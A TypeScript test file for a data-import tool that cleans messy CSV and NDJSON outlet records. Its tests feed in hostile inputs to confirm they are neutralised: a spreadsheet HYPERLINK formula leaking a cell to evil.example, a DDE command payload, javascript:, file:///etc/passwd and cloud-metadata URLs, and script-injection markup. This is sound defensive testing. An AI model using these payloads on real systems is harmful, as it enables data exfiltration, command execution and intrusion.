import { gzipSync } from 'node:zlib';
import { afterEach, beforeEach, describe, expect, it } from 'vitest';
import { ImportBench } from './import-bench.ts';

const header = 'id,kind,name,url,language,country,city,categories,email';

/** A row of a CSV file as data staff would deliver it; any cell can be given. */
function row(
  n: number,
  given: Partial<Record<'name' | 'url' | 'language' | 'country' | 'city' | 'email', string>> = {},
) {
  const cells = {
    name: `Hill Valley Gazette ${n}`,
    url: `https://outlet${n}.example.com/`,
    language: 'en',
    country: 'US',
    city: 'Springfield',
    email: `desk${n}@example.com`,
    ...given,
  };
  return `d${n},outlet,${cells.name},${cells.url},${cells.language},${cells.country},${cells.city},news|local,${cells.email}`;
}

const csv = (...rows: string[]) => [header, ...rows, ''].join('\n');

function object(n: number, given: object = {}) {
  const url = `https://outlet${n}.example.com/`;
  const base = { id: `d${n}`, kind: 'outlet', name: `Hill Valley Gazette ${n}`, url, country: 'US' };
  return JSON.stringify({ ...base, email: `desk${n}@example.com`, ...given });
}

describe('how dirty files are read', () => {
  let bench: ImportBench;

  beforeEach(async () => {
    bench = await ImportBench.open();
  });
  afterEach(async () => {
    await bench.close();
  });

  /** Imports the file, then once more: the second time nothing changes. */
  async function importTwice(name: string, content: string | Uint8Array) {
    const first = await bench.importText(name, content);
    const records = await bench.records();
    const second = await bench.importText(name, content);
    expect({ created: second.created, updated: second.updated }).toEqual({ created: 0, updated: 0 });
    expect(await bench.records()).toEqual(records);
    expect(JSON.stringify([first, (await bench.aboutRows()).entries])).not.toMatch(
      /@example\.com|@x\.example|\bat [\w.<]+ \(/,
    );
    return { ...first, records };
  }

  it('01: a byte order mark is not part of the first heading', async () => {
    const { created, ignored_columns, records } = await importTwice('01.csv', `\ufeff${csv(row(1), row(2), row(3))}`);
    expect({ created, ignored_columns }).toEqual({ created: 3, ignored_columns: [] });
    expect([...records.keys()]).toEqual(['d1', 'd2', 'd3']);
  });

  it('03: line ends within quotes become spaces, and messages give line numbers of the file', async () => {
    const broken =
      'd5,outlet,Hill Valley Gazette 5,https://outlet5.example.com/,en,US,Springfield,news,a@x.example,more';
    const { created, first_rejects, records } = await importTwice(
      '03.csv',
      csv(
        row(1),
        row(2, { name: '"Two\nLine Herald"' }),
        row(3, { city: '"St. Paul, MN\r\n"' }),
        row(4, { name: '"Says ""Hi"" Weekly"' }),
        broken,
      ),
    );
    expect(created).toBe(4);
    expect(records.get('d2')?.name).toBe('Two Line Herald');
    expect(records.get('d3')).toMatchObject({ city: 'St. Paul', region: 'Minnesota', country: 'US' });
    expect(records.get('d4')?.name).toBe('Says "Hi" Weekly');
    expect(first_rejects.map(({ line }) => line)).toEqual([8]);
  });

  it.each(['utf16le', 'utf16be'] as const)('05: %s with its mark is decoded correctly', async (encoding) => {
    const text = `\ufeff${csv(row(1), row(2), row(3, { name: 'Süddeutsche Nachrichten 日報' }))}`;
    const bytes = Buffer.from(text, 'utf16le');
    const { created, records } = await importTwice('05.csv', encoding === 'utf16le' ? bytes : bytes.swap16());
    expect(created).toBe(3);
    expect(records.get('d3')?.name).toBe('Süddeutsche Nachrichten 日報');
  });

  it('07: a short row keeps to its cells, a long one is rejected, and so is one without kind and name', async () => {
    const short = 'd2,outlet,Hill Valley Gazette 2,https://outlet2.example.com/,en';
    const { created, rejected, first_rejects, records } = await importTwice(
      '07.csv',
      csv(row(1), short, `${row(3)},extra,cells`, row(4), 'd5'),
    );
    expect({ created, rejected }).toEqual({ created: 3, rejected: 2 });
    expect(records.get('d2')).toMatchObject({ language: 'en', country: null, city: null, categories: [], email: null });
    expect(first_rejects).toMatchObject([
      { line: 4, code: 'too_many_cells', reason: expect.stringContaining('11 cells, but the header has 9') },
      { line: 6, id: 'd5', code: 'incomplete', reason: expect.stringMatching(/kind and name/) },
    ]);
  });

  it('09: two columns for one field refuse the file and name both', async () => {
    const { refused, records } = await importTwice(
      '09.csv',
      `${header},email\n${row(1)},second@example.com\n${row(2)},\n`,
    );
    expect(refused).toMatchObject({ code: 'duplicate_column', reason: expect.stringMatching(/column 9.*column 10/) });
    expect(records.size).toBe(0);
  });

  it('11: unknown columns are listed once and ignored', async () => {
    const { created, ignored_columns } = await importTwice(
      '11.csv',
      `${header},Black-owned?,Year Founded,X (formerly Twitter)\n${[1, 2, 3].map((n) => `${row(n)},x,42,https://x.example/x\n`).join('')}`,
    );
    expect(created).toBe(3);
    expect(ignored_columns).toEqual(['"Black-owned?"', '"Year Founded"', '"X (formerly Twitter)"']);
  });

  it('13: a header alone is not a fault and changes nothing', async () => {
    await bench.importText('before.csv', csv(row(1)));
    const { read, refused, records } = await importTwice('13.csv', `${header}\n`);
    expect({ read, refused, size: records.size }).toEqual({ read: 0, refused: null, size: 1 });
  });

  it('15: NUL characters are removed from text and make an address unreadable, both with a note', async () => {
    const { created, notes, records } = await importTwice(
      '15.csv',
      csv(row(1, { name: 'Nul\0Times' }), row(2, { email: 'desk\0@example.com' }), row(3)),
    );
    expect(created).toBe(3);
    expect(records.get('d1')?.name).toBe('NulTimes');
    expect(records.get('d2')?.email).toBeNull();
    expect(notes).toMatchObject([
      { field: 'name', code: 'control_characters', count: 1 },
      { field: 'email', code: 'unreadable', count: 1 },
    ]);
  });

  it('17: cells that a spreadsheet would run are text', async () => {
    const { created, records } = await importTwice(
      '17.csv',
      csv(
        row(1, { name: '"=HYPERLINK(""http://evil.example/?x=""&A1,""Click"")"' }),
        row(2, { name: '+1-800-NEWS Radio' }),
        row(3, { name: '@TheTimes' }),
        row(4, { name: '-30- Magazine' }),
        row(5, { name: "\t=cmd|' /C calc'!A0" }),
        row(6, { name: "'=SUM(1)" }),
      ),
    );
    expect(created).toBe(6);
    expect([...records.values()].map(({ name }) => name)).toEqual([
      '=HYPERLINK("http://evil.example/?x="&A1,"Click")',
      '+1-800-NEWS Radio',
      '@TheTimes',
      '-30- Magazine',
      "=cmd|' /C calc'!A0",
      // The apostrophe that exports put before a formula is removed.
      '=SUM(1)',
    ]);
  });

  it('18: gzip is decompressed, whatever the file is called', async () => {
    const { created } = await importTwice('18.csv', gzipSync(csv(row(1), row(2), row(3))));
    expect(created).toBe(3);
  });

  it('19: broken lines are named, the others are imported', async () => {
    const { created, first_rejects, records } = await importTwice(
      '19.ndjson',
      [
        object(1),
        object(2),
        '{"id":"d3","kind":"outlet","name":"Cut off',
        '',
        object(4),
        '{"id":"d5","name":"Trailing comma",}',
        object(6),
        '',
      ].join('\n'),
    );
    expect(created).toBe(4);
    expect([...records.keys()]).toEqual(['d1', 'd2', 'd4', 'd6']);
    expect(first_rejects).toMatchObject([
      { line: 3, code: 'not_json' },
      { line: 6, code: 'not_json' },
    ]);
    expect(JSON.stringify(first_rejects)).not.toMatch(/Cut off|Trailing/);
  });

  it('21: the last row of an id wins; ids are trimmed, numbers are their digits, case counts', async () => {
    const { read, created, repeated, records } = await importTwice(
      '21.ndjson',
      [
        object(1),
        object(2),
        object(1, { name: 'Hill Valley Gazette 1 (later copy)' }),
        object(2),
        object(3, { id: 'D1' }),
        object(4, { id: ' d1 ' }),
        object(5, { id: 7 }),
        object(6, { id: '7' }),
      ].join('\n'),
    );
    expect({ read, created, repeated }).toEqual({ read: 8, created: 4, repeated: 4 });
    expect([...records.values()].map(({ id, name }) => `${id}: ${name}`).toSorted()).toEqual([
      '7: Hill Valley Gazette 6',
      'D1: Hill Valley Gazette 3',
      'd1: Hill Valley Gazette 4',
      'd2: Hill Valley Gazette 2',
    ]);
  });

  it('23: ten thousand topic words are cut at the limit, repeats are one', async () => {
    const { created, notes, records } = await importTwice(
      '23.ndjson',
      [
        object(1, { categories: Array.from({ length: 10_000 }, (_, index) => `cat ${index}`) }),
        object(2, { categories: Array(10_000).fill('news') }),
        object(3),
      ].join('\n'),
    );
    expect(created).toBe(3);
    expect([...records.values()].map(({ categories }) => categories)).toEqual([[], ['general_news'], []]);
    expect([...records.values()].map(({ tags }) => tags.length)).toEqual([30, 0, 0]);
    expect(notes.map(({ field, code }) => `${field} ${code}`)).toEqual(['categories too_many', 'tags too_many']);
  });

  it('25: only http and https URLs of public hosts are kept, without passwords', async () => {
    const urls = {
      'javascript:alert(1)': null,
      'JaVaScRiPt:alert(1)': null,
      ' javascript:alert(1)': null,
      '"data:text/html,<script>alert(1)</script>"': null,
      'file:///etc/passwd': null,
      'http://169.254.169.254/latest/meta-data/': null,
      'http://localhost:22/': null,
      'www.example.com': 'https://www.example.com/',
      'example.com/news': 'https://example.com/news',
      '//example.com': 'https://example.com/',
      'hhttp://example.com': null,
      'itms://itunes.example/store': null,
      'https://user:pass@example.com/': 'https://example.com/',
      'https://a.example/ https://b.example/': 'https://a.example/',
      'http://exa mple.com': null,
      'https://münchen.example/': 'https://xn--mnchen-3ya.example/',
      [`https://example.com/${'p'.repeat(6_000)}`]: null,
      'http://': null,
      '#': null,
    };
    const { created, notes, records } = await importTwice(
      '25.csv',
      csv(...Object.keys(urls).map((url, index) => row(index + 1, { url }))),
    );
    expect(created).toBe(19);
    const kept = Object.keys(urls).map((_, index) => records.get(`d${index + 1}`)?.url);
    expect(kept).toEqual(Object.values(urls));
    // '#' counts as empty; other dropped or changed values get a note.
    expect(notes.reduce((sum, { count }) => sum + count, 0)).toBe(14);
    expect(JSON.stringify([...records.values()])).not.toContain('pass');
  });

  it('27: markup is stripped, what it showed stays, nothing is escaped twice', async () => {
    const { created, records } = await importTwice(
      '27.ndjson',
      [
        object(1, {
          description: '<p>Daily <b>news</b> &amp; views</p><script>alert(1)</script><img src=x onerror=alert(1)>',
        }),
        object(2, { name: '<b>Bold</b> Times &amp; Echo', description: '&lt;script&gt;alert(1)&lt;/script&gt;' }),
        object(3, { name: 'O\'Brien "Quoted" & Sons', city: '"><svg onload=alert(1)>' }),
      ].join('\n'),
    );
    expect(created).toBe(3);
    expect(records.get('d1')?.description).toBe('Daily news & views');
    expect(records.get('d2')).toMatchObject({ name: 'Bold Times & Echo', description: null });
    expect(records.get('d3')).toMatchObject({ name: 'O\'Brien "Quoted" & Sons', city: null });
  });

  it('29: placeholders are empty, UK is GB, a row without a name is rejected, blank rows are skipped', async () => {
    const { read, created, first_rejects, records } = await importTwice(
      '29.csv',
      csv(
        row(1, { url: 'none', city: '-', email: 'N/A' }),
        row(2, { url: 'undefined', city: 'NULL', email: 'null' }),
        row(3, { language: 'xx-invalid-', country: 'UK', city: '?', email: 'TBD' }),
        row(4, { name: 'N/A' }),
        row(5, { name: ' \u00a0 ' }),
        ',,,,,,,,',
        '',
        '',
      ),
    );
    expect({ read, created }).toEqual({ read: 5, created: 3 });
    expect(records.get('d1')).toMatchObject({ url: null, city: null, email: null });
    expect(records.get('d2')).toMatchObject({ url: null, city: null, email: null });
    expect(records.get('d3')).toMatchObject({
      country: 'GB',
      continent: 'europe',
      language: null,
      city: null,
      email: null,
    });
    expect(first_rejects).toMatchObject([
      { line: 5, id: 'd4', field: 'name', code: 'required' },
      { line: 6, id: 'd5', field: 'name', code: 'required' },
    ]);
  });
});
